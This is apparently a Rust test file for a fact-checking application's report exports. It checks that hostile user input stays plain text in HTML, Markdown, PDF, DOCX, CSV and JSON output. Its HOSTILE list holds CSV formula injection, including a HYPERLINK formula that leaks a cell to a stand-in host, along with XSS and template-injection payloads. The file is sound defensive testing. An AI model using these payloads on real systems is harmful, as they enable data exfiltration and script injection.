//! What came from outside stays text in every form.

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use serde_json::{Value, json};
use stet::domain::article::aside::AsideReason;
use stet::domain::claim::attribution::Attribution;
use stet::domain::contents::{
    AnswerFix, AttachSource, AttributeClaim, DismissClaims, GiveVerdict, ProposeFix, RewordClaim,
    WaiveQuestion,
};
use stet::domain::fix::{FixAnswer, FixWeight};
use stet::domain::question::WaiveReason;
use stet::domain::source::{EvidenceInput, Source, SourceKind, Stance};
use stet::domain::{ClaimId, Command, FixId, Question, Span};
use uuid::Uuid;

use super::desk::Desk;
use crate::support::{printed, unpacked};

/// Strings that would do something where they are not taken for text.
const HOSTILE: [&str; 15] = [
    "=HYPERLINK(\"https://evil.test/?\"&A1,\"x\")",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "＝1+1",
    " \" =1+1",
    "a\";=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.test/pixel.gif)",
    "https://evil.test/<img src=x onerror=alert(1)>",
    "</style></blockquote><b onclick=alert(1)>",
    "{{ told.hash }}{% include 'x' %}",
    "\u{202e}evil <!--",
    "| a |\n# h\n---\n[1]: https://evil.test\n```\n~~~ & \\",
];

/// Who said it, when and where, and why nobody is asked if they did.
async fn says_who(desk: &Desk, claim: ClaimId, hostile: &str) {
    let attribute = AttributeClaim {
        claim,
        attribution: Attribution {
            claimant: Some(hostile.into()),
            said_when: Some(hostile.into()),
            said_where: Some(hostile.into()),
        },
    };
    let (editor, attribute) = (&desk.editor, attribute.into());
    editor.does(desk.session, &attribute, Some(1)).await;
    let waive = WaiveQuestion {
        claim,
        question: Question::Said,
        reason: WaiveReason::Other,
        note: Some(hostile.into()),
    };
    desk.editor_does(&waive.into()).await;
}

/// The words instead, why, and the answer.
async fn fixes(desk: &Desk, hostile: &str) {
    let propose = ProposeFix {
        span: Span::new(0, 5),
        replacement: Some(hostile.into()),
        weight: FixWeight::Query,
        why: Some(hostile.into()),
        claim: None,
    };
    let id = Uuid::now_v7();
    let editor = &desk.editor;
    let (status, body) = editor
        .sends_as(id, desk.session, &propose.into(), None)
        .await;
    assert!(status.is_success(), "{body}");
    let fix = FixId(id);
    let answer = AnswerFix {
        fix,
        answer: FixAnswer::Answered,
        words: Some(hostile.into()),
        why: Some(hostile.into()),
    };
    editor.does(desk.session, &answer.into(), Some(1)).await;
}

/// A session in which everything that can be typed is `hostile`.
async fn typed(first: &Desk, hostile: &str) -> Desk {
    let line = hostile.replace('\n', " ");
    let text =
        format!("Paris has 330 bridges, and {line} is what they say.\n\n{hostile}\n\nThe end.");
    let desk = first.also(&line, &text).await;
    let details = json!({"kind": "edit_details", "details": {
        "title": line, "author": line, "outlet": line, "language": "en"}});
    let details: Command = serde_json::from_value(details).unwrap();
    desk.editor_does(&details).await;
    let claim = desk.adds("Paris has 330 bridges", Some(hostile)).await;
    let command = Command::RewordClaim(RewordClaim {
        claim,
        statement: format!("{hostile} it is"),
    });
    desk.editor_does(&command).await;
    says_who(&desk, claim, hostile).await;
    desk.checker
        .does(
            desk.session,
            &Command::AttachSource(AttachSource {
                claim,
                evidence: EvidenceInput {
                    source: Source {
                        title: hostile.into(),
                        url: Some(format!("https://example.org/{}", line.replace(' ', "%20"))),
                        kind: SourceKind::WebPage,
                        primary: false,
                    },
                    passage: Some(hostile.into()),
                    locator: Some(hostile.into()),
                    stance: Stance::Refutes,
                    bears_on: Default::default(),
                    provenance: Default::default(),
                },
            }),
            None,
        )
        .await;
    let verdict = Command::GiveVerdict(GiveVerdict {
        salt: Default::default(),
        attribution_version: None,
        question: Question::So,
        claim,
        rating: "false".into(),
        rationale: hostile.into(),
        seen: None,
    });
    desk.checker.does(desk.session, &verdict, Some(2)).await;
    desk.says(claim, hostile).await;
    let dismiss = Command::DismissClaims(DismissClaims {
        claims: vec![desk.adds("The end", None).await],
        reason: AsideReason::Other,
        note: Some(hostile.into()),
    });
    desk.editor_does(&dismiss).await;
    fixes(&desk, hostile).await;
    desk
}

#[tokio::test(flavor = "multi_thread")]
async fn what_came_from_outside_is_text_in_every_form() {
    let first = Desk::new().await;
    for hostile in HOSTILE {
        let desk = typed(&first, hostile).await;
        html_is_safe(&desk.report("html?comments=true").await, hostile);
        markdown_is_safe(&desk.report("md?comments=true").await, hostile);
        paper_has_it(&desk, hostile).await;
        let rows = desk.rows("csv?comments=true").await;
        for (column, cell) in rows.iter().flatten() {
            let start =
                cell.trim_start_matches(|it: char| it.is_whitespace() || "\"“".contains(it));
            assert!(
                !start.starts_with(['=', '+', '-', '@', '＝']),
                "{column}: {cell:?}"
            );
        }
        let row = rows.iter().find(|row| row["rating"] == "False").unwrap();
        let plain = |cell: &str| cell.replace('\'', "");
        assert_eq!(
            plain(&row["claimant"]),
            plain(hostile.trim()),
            "{hostile:?}"
        );
        let export: Value = serde_json::from_str(&desk.report("json").await).unwrap();
        assert!(
            export
                .to_string()
                .contains(&json!(hostile.trim()).to_string())
        );
    }
}

/// The page has no element, and no attribute, but those of the template.
fn html_is_safe(html: &str, hostile: &str) {
    let body = html.split("</style>").last().unwrap();
    // The signed report is inside, as letters and digits of Base64 alone.
    let (body, inside) = match body.split_once(r#"<script type="application/gzip" id="export">"#) {
        Some((before, after)) => {
            let (data, after) = after.split_once("</script>").unwrap();
            let digit = |it: char| it.is_ascii_alphanumeric() || "+/=".contains(it);
            assert!(data.chars().all(digit), "{hostile:?}");
            (format!("{before}{after}").replace("</script>", ""), 1)
        }
        None => (body.to_owned(), 0),
    };
    let tags = body.split('<').skip(1).map(|it| it.split('>').next());
    for tag in tags.flatten() {
        // What stands in quotation marks is a value.
        let names: String = tag.split('"').step_by(2).collect();
        for bad in ["script", "img", "onclick", "onerror", "src", "include"] {
            assert!(!names.contains(bad), "<{tag}> of {hostile:?}");
        }
    }
    assert_eq!(html.matches("</style>").count(), 1, "{hostile:?}");
    assert_eq!(html.matches("<script").count(), 1 + inside, "{hostile:?}");
    let proven = stet::audit::page::verify(html);
    assert!(proven.is_ok(), "{hostile:?}: {proven:?}");
    assert_eq!(html.matches("</main>").count(), 1, "{hostile:?}");
}

/// On paper it stands as it was typed, a letter for a letter.
async fn paper_has_it(desk: &Desk, hostile: &str) {
    let solid = |text: &str| -> String {
        let kept = |it: &char| !it.is_whitespace() && !it.is_control() && *it != '\u{202e}';
        text.chars().filter(kept).collect()
    };
    let pdf = printed(&desk.file_called("report.pdf?comments=true").await.bytes());
    // The one letter of them that its fonts have not got.
    let there = solid(hostile).replace('＝', "□");
    assert!(solid(&pdf).contains(&there), "{hostile:?}: {pdf}");
    let docx = unpacked(&desk.file_called("report.docx?comments=true").await.bytes());
    use quick_xml::events::Event;
    let mut reader = quick_xml::Reader::from_str(&docx);
    let mut words = String::new();
    loop {
        match reader.read_event().unwrap() {
            Event::Eof => break,
            Event::Text(it) => words.push_str(&it),
            Event::GeneralRef(it) => words.push_str(match &*it {
                "lt" => "<",
                "gt" => ">",
                "amp" => "&",
                "quot" => "\"",
                "apos" => "'",
                other => panic!("&{other}; of {hostile:?}"),
            }),
            _ => {}
        }
    }
    assert!(
        solid(&words).contains(&solid(hostile)),
        "{hostile:?}: {words}"
    );
}

/// The file holds no markup, no picture, no address but of the web, and no heading but its own.
fn markdown_is_safe(markdown: &str, hostile: &str) {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_TASKLISTS;
    let parser = Parser::new_ext(markdown, options);
    assert_eq!(
        parser.reference_definitions().iter().count(),
        0,
        "{hostile:?}"
    );
    // GFM would take the backslash for the last letter of an address before it.
    assert!(!markdown.contains("\\<"), "{hostile:?}");
    let mut quoted = 0;
    for event in parser {
        match event {
            Event::Html(_) | Event::InlineHtml(_) => panic!("{hostile:?} is markup: {event:?}"),
            Event::Start(Tag::Image { .. } | Tag::Table(_) | Tag::FootnoteDefinition(_)) => {
                panic!("{hostile:?}: {event:?}")
            }
            Event::Start(Tag::Link { ref dest_url, .. }) => {
                assert!(dest_url.starts_with("https://"), "{event:?}");
            }
            Event::Start(Tag::BlockQuote(_)) => quoted += 1,
            Event::End(TagEnd::BlockQuote(_)) => quoted -= 1,
            Event::Start(Tag::CodeBlock(_)) => assert!(quoted > 0, "{hostile:?}: {event:?}"),
            _ => {}
        }
    }
    let headings = markdown.lines().filter(|line| line.starts_with("## "));
    let told = [
        "What the article should say",
        "The article",
        "Claims",
        "Set aside",
        "What the ratings mean",
        "Ledger",
        "Proof",
    ];
    let headings: Vec<_> = headings.map(|line| &line[3..]).collect();
    assert_eq!(headings, told, "{hostile:?}");
}

/// Who could write another's name so would put words into their mouth.
#[tokio::test(flavor = "multi_thread")]
async fn an_id_in_braces_that_somebody_typed_is_no_name() {
    let desk = Desk::new().await;
    let id = format!("{{{}}}", desk.editor.id);
    let claim = desk.adds("The view is lovely", None).await;
    desk.says(claim, &format!("{id} told me so")).await;
    let dismiss = DismissClaims {
        claims: vec![claim],
        reason: AsideReason::Other,
        note: Some(format!("signed by {id}")),
    };
    desk.editor_does(&dismiss.into()).await;
    let html = desk.report("html?comments=true").await;
    assert!(html.contains(&format!("{id} told me so")), "{html}");
    assert!(!html.contains("Editor told me so"));
    assert!(!html.contains("signed by Editor"));
    let markdown = desk.report("md?comments=true").await;
    assert!(!markdown.contains("Editor told me so") && !markdown.contains("signed by Editor"));
}
